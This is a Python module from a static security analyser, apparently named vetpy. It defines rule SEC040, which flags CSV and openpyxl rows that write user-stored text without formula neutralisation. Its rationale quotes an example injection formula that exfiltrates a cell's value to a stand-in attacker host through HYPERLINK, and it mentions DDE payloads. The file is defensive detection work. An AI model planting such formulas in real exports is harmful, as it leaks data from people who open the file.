"""SEC040 csv-injection: a stored text value written to a CSV row (or an openpyxl worksheet's
row) without the formula neutralisation the module applies elsewhere."""

from __future__ import annotations

import ast
from collections.abc import Iterator

from vetpy.astutil import NodeMemo, dotted_name, last_name, name_words, statement_nodes
from vetpy.findings import Finding, Severity
from vetpy.rules.registry import REGISTRY, rule
from vetpy.rules.sec.walk import RuleModule, SecurityPass, Site, Triggers

CSV_INJECTION = rule(
    code="SEC040",
    name="csv-injection",
    family="SEC",
    severity=Severity.WARNING,
    summary="Text a user stored is written to a CSV row without the formula neutralisation the same module applies to other rows.",
    rationale="""A spreadsheet opening the export runs a cell that starts with `=`, `+`, `-` or `@`
    as a formula (`=HYPERLINK("https://evil.example/?"&A1, "open")`, DDE payloads): a user who
    typed that into a name or a note attacks whoever opens the export (CWE-1236). Reported only
    where the module has a neutraliser of its own (a function that prefixes a cell starting with
    `=` and `+`, `-` or `@`, as OWASP advises) and a `csv` writer's `writerow` is given a whole row
    or a row's text column (`e.merchant`, `row["name"]`) without it. An openpyxl worksheet of a
    workbook the function makes (`wb = Workbook(); ws = wb.active`, `wb.create_sheet(...)`) is
    judged the same at `ws.append([...])`: openpyxl stores a string cell starting with `=` as a
    formula. Not a header of constants, a row built with the neutraliser (one that neutralises
    some of its cells leaves the others raw by choice: `[cell(e.merchant), e.category, cell(e.note)]`,
    a category picked from a list, unless a column's name says it is free text, `notes`), nor
    columns named as numbers, dates or keys (`amount`, `total`, `created_at`, `id`).""",
    bad="""
        import csv

        FORMULA = ("=", "+", "-", "@")

        def cell(value):
            text = str(value)
            return "'" + text if text.startswith(FORMULA) else text

        def export(expenses, out):
            writer = csv.writer(out)
            for e in expenses:
                writer.writerow([e.merchant, e.note, e.amount])
    """,
    good="""
        def export(expenses, out):
            writer = csv.writer(out)
            for e in expenses:
                writer.writerow([cell(e.merchant), cell(e.note), e.amount])
    """,
    cwe=(1236,),
)

_WRITERS = frozenset({"csv.writer", "csv.DictWriter"})
# openpyxl's workbook; `ws.append(row)` of one of its sheets stores a string starting with "=" as a
# formula (openpyxl 3.1 `cell/cell.py` `_bind_value`: `data_type = 'f'`)
# a column named as free text: what a user typed at length, whatever the author judged of the rest
_FREE_TEXT = frozenset({"note", "notes", "comment", "comments", "description", "memo", "message", "body", "text",
                        "remark", "remarks", "bio", "feedback", "reason", "details"})
_WORKBOOKS = frozenset({"openpyxl.Workbook", "openpyxl.workbook.Workbook", "openpyxl.workbook.workbook.Workbook"})
_SHEET_METHODS = frozenset({"create_sheet"})
_FORMULA_CHARS = frozenset({"+", "-", "@"})
# a column named as a number, a date, a flag or a key holds no formula a user typed
_NOT_TEXT = frozenset({
    "id", "pk", "uuid", "number", "no", "amount", "total", "subtotal", "price", "cost", "fee", "fees", "count", "qty",
    "quantity", "size", "sum", "balance", "rate", "percent", "ratio", "score", "date", "time", "at", "on", "day",
    "month", "year", "hour", "timestamp", "created", "updated", "age", "minutes", "seconds", "cents", "tax", "vat",
    "is", "has", "enabled", "active", "paid", "currency", "status", "type", "kind", "code",
    # measures: a distance, a weight, a duration or an energy is a number in any export
    "km", "kms", "mi", "miles", "mileage", "odometer", "distance", "kg", "kgs", "lb", "lbs", "weight", "grams",
    "duration", "kwh", "litres", "liters", "volume", "started", "ended", "expires", "due",
    "income", "salary",
})


def check_call(sec: SecurityPass, site: Site) -> Iterator[Finding]:
    call: ast.Call = site.node  # type: ignore[assignment]
    if site.attr not in ("writerow", "append") or site.func is None or len(call.args) != 1 or call.keywords:
        return
    neutralisers = _neutralisers(sec)
    if not neutralisers or site.func.name in neutralisers:
        return
    receiver = call.func.value  # type: ignore[attr-defined]
    if not isinstance(receiver, ast.Name):
        return
    if site.attr == "writerow" and _csv_writer(sec, site.func, receiver.id):
        where = "the CSV"
    elif site.attr == "append" and _worksheet(sec, site.func, receiver.id):
        where = "the spreadsheet"
    else:
        return
    raw = _raw_cells(sec, site.func, call.args[0], neutralisers)
    if raw:
        shown = ", ".join(f"`{r}`" for r in raw[:3])
        yield CSV_INJECTION.finding(
            sec.doc, call, f"{shown} {'is' if len(raw) == 1 else 'are'} written to {where} without `{sorted(neutralisers)[0]}`, "
            "which this module uses to neutralise formulas: a cell a user starts with `=` runs as a formula in the spreadsheet")


def _neutralisers(sec: SecurityPass) -> frozenset[str]:
    """The module's functions that neutralise a spreadsheet formula (once per analysis): they test a
    value's start (``startswith``, ``[:1]``, ``[0]``) against constants holding ``=`` and one of ``+``,
    ``-``, ``@`` (also through a module constant, ``FORMULA_PREFIXES = ("=", "+", "-", "@")``)."""
    cached = sec.doc.shared.get("sec.csv-neutralisers")
    if cached is None:
        body = sec.doc.module_body  # the whole file's, also in the editor's view (which holds some statements)
        constants = {t.id: stmt.value for stmt in body if isinstance(stmt, ast.Assign)
                     for t in stmt.targets if isinstance(t, ast.Name)}
        found = set()
        memo = sec.doc.memo
        for stmt in body:
            if isinstance(stmt, (ast.FunctionDef, ast.AsyncFunctionDef)) and _neutralises(stmt, constants, memo):
                found.add(stmt.name)
        cached = sec.doc.shared["sec.csv-neutralisers"] = frozenset(found)
    return cached  # type: ignore[no-any-return]


def _neutralises(func: ast.FunctionDef | ast.AsyncFunctionDef, constants: dict[str, ast.expr], memo: NodeMemo) -> bool:
    texts, names, tests_start = memo.get(func, "sec.csv-start-tests", lambda: _start_tests(func, memo))
    if not tests_start:
        return False
    texts = set(texts)
    for name in names:
        if name in constants:
            texts |= {c.value for c in ast.walk(constants[name]) if isinstance(c, ast.Constant) and isinstance(c.value, str)}
    chars = set("".join(t for t in texts if len(t) <= 8))
    return "=" in chars and bool(chars & _FORMULA_CHARS)


@REGISTRY.whole_file_fact
def _neutraliser_facts(stmt: ast.stmt, memo: NodeMemo) -> frozenset[str]:
    """A function that tests a value's start may be the module's neutraliser, which decides every
    ``writerow`` finding of the module: an edit that changes what SEC040 reads of one is analysed whole."""
    if not isinstance(stmt, (ast.FunctionDef, ast.AsyncFunctionDef)):
        return frozenset()
    texts, names, tests_start = memo.get(stmt, "sec.csv-start-tests", lambda: _start_tests(stmt, memo))
    if not tests_start:
        return frozenset()
    return frozenset([f"csv-start:{stmt.name}", *(f"csv-text:{stmt.name}:{t}" for t in texts if len(t) <= 8),
                      *(f"csv-name:{stmt.name}:{n}" for n in names)])


def _start_tests(func: ast.FunctionDef | ast.AsyncFunctionDef, memo: NodeMemo) -> tuple[frozenset[str], frozenset[str], bool]:
    """What :func:`_neutralises` reads of a function, from one walk kept with its statement: its
    string constants, the names it reads, whether it tests a value's start."""
    texts: set[str] = set()
    names: set[str] = set()
    tests_start = False
    for node in statement_nodes(func, memo):  # the statement's nodes, listed once for every fact
        if isinstance(node, ast.Constant) and isinstance(node.value, str):
            texts.add(node.value)
        elif isinstance(node, ast.Name):
            names.add(node.id)
        if isinstance(node, ast.Call) and last_name(node.func) == "startswith":
            tests_start = True
        elif isinstance(node, ast.Subscript) and (isinstance(node.slice, ast.Slice) or (isinstance(node.slice, ast.Constant) and node.slice.value == 0)):
            tests_start = True
    return frozenset(texts), frozenset(names), tests_start


def _csv_writer(sec: SecurityPass, func: ast.FunctionDef | ast.AsyncFunctionDef, name: str) -> bool:
    bound = [n.value for n in ast.walk(func) if isinstance(n, ast.Assign) and any(isinstance(t, ast.Name) and t.id == name for t in n.targets)]
    return len(bound) == 1 and isinstance(bound[0], ast.Call) and sec.qualified(bound[0].func) in _WRITERS


def _worksheet(sec: SecurityPass, func: ast.FunctionDef | ast.AsyncFunctionDef, name: str) -> bool:
    """``name`` bound once in ``func``, to a sheet (``wb.active``, ``wb.create_sheet(...)``) of a
    workbook bound once in ``func`` to ``openpyxl.Workbook()``."""
    bound = _bound_once(func, name)
    if isinstance(bound, ast.Attribute) and bound.attr == "active":
        book = bound.value
    elif isinstance(bound, ast.Call) and isinstance(bound.func, ast.Attribute) and bound.func.attr in _SHEET_METHODS:
        book = bound.func.value
    else:
        return False
    made = _bound_once(func, book.id) if isinstance(book, ast.Name) else None
    return isinstance(made, ast.Call) and sec.qualified(made.func) in _WORKBOOKS


def _bound_once(func: ast.FunctionDef | ast.AsyncFunctionDef, name: str) -> ast.expr | None:
    bound = [n.value for n in ast.walk(func) if isinstance(n, ast.Assign) and any(isinstance(t, ast.Name) and t.id == name for t in n.targets)]
    return bound[0] if len(bound) == 1 else None


def _raw_cells(sec: SecurityPass, func: ast.FunctionDef | ast.AsyncFunctionDef, row: ast.expr, neutralisers: frozenset[str]) -> list[str]:
    """The row's cells that hold stored text, not neutralised: a row's text column, or the whole
    row a loop gives (``for row in rows: writer.writerow(row)``)."""
    if isinstance(row, ast.Dict):
        cells = [v for v in row.values if v is not None]
    elif isinstance(row, (ast.List, ast.Tuple)):
        cells = list(row.elts)
    elif isinstance(row, ast.Name) and _loop_variable(func, row.id):
        return [row.id]
    else:
        return []  # a comprehension, a call: whatever it makes
    # the author neutralised some of this row's cells: the others are what they judged holds no
    # typed text (a category, a grade), unless a column's name says it is free text (`notes`)
    partly = any(isinstance(cell, ast.Call) and last_name(cell.func) in neutralisers for cell in cells)
    raw = []
    for cell in cells:
        name = _column_name(cell)
        if partly and not (name is not None and set(name_words(name)) & _FREE_TEXT):
            continue
        if name is not None and not set(name_words(name)) & _NOT_TEXT:
            raw.append(dotted_name(cell) or sec.doc.segment(cell))
    return raw


def _column_name(cell: ast.expr) -> str | None:
    """``e.merchant`` -> ``merchant``, ``row["name"]`` -> ``name``, ``inv.account.full_name`` -> ``full_name``."""
    if isinstance(cell, ast.Attribute) and isinstance(cell.value, (ast.Name, ast.Attribute)):
        return cell.attr
    if isinstance(cell, ast.Subscript) and isinstance(cell.slice, ast.Constant) and isinstance(cell.slice.value, str):
        return cell.slice.value
    return None


def _loop_variable(func: ast.FunctionDef | ast.AsyncFunctionDef, name: str) -> bool:
    return any(isinstance(n, (ast.For, ast.AsyncFor)) and isinstance(n.target, ast.Name) and n.target.id == name for n in ast.walk(func))


MODULE = RuleModule(
    rules=(CSV_INJECTION,),
    handlers={ast.Call: check_call},
    triggers=Triggers(words=("writerow",), imported={"openpyxl": (".append(",)}),
)
